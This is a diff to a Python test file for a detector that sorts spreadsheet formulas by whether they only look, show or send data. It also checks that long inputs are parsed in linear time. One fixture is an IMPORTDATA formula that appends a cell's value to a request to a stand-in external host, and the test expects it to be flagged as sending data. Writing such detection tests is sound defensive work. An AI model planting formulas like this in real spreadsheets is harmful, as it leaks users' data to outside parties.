@@ -69,14 +69,13 @@ def test_a_formula_counts_in_every_tool_that_does_more_than_look() -> None:
     assert kinds("search_docs", query=cell) == [("looks", "")]
 
 
-@pytest.mark.parametrize("text", [",=IMAGE(", "IMAGE(", ',=IMAGE("'])
+@pytest.mark.parametrize("text", [",=IMAGE(", "IMAGE(", ',=IMAGE("', 'a=IMAGE("'])
 def test_a_long_text_of_formulas_is_read_in_linear_time(text: str) -> None:
     short, long = (text * size for size in (4_000, 32_000))
     assert takes_at_most_times(16, lambda: read(long), lambda: read(short), 0.05)
 
 
-def test_formulas_behind_many_others_are_found_or_count_as_unreadable() -> None:
-    evil = '=IMPORTDATA("https://px.example/")\n'
-    assert read("IMAGE(\n" * 2000 + evil) == [(SHOWS, "px.example")]
-    assert read('=IMAGE("a")\n' * 499 + evil) == [(SHOWS, "px.example")]
-    assert read('=IMAGE("a")\n' * 500 + evil) == [("unreadable", "")]
+def test_a_formula_behind_many_others_is_found() -> None:
+    evil = '=IMPORTDATA("https://px.example/"&A1)'
+    for text in ("IMAGE(\n", '=IMAGE("a")\n', '=IMAGE("a"),', "x = image(1), "):
+        assert read(text * 2000 + "," + evil) == [(SENDS, "px.example")]
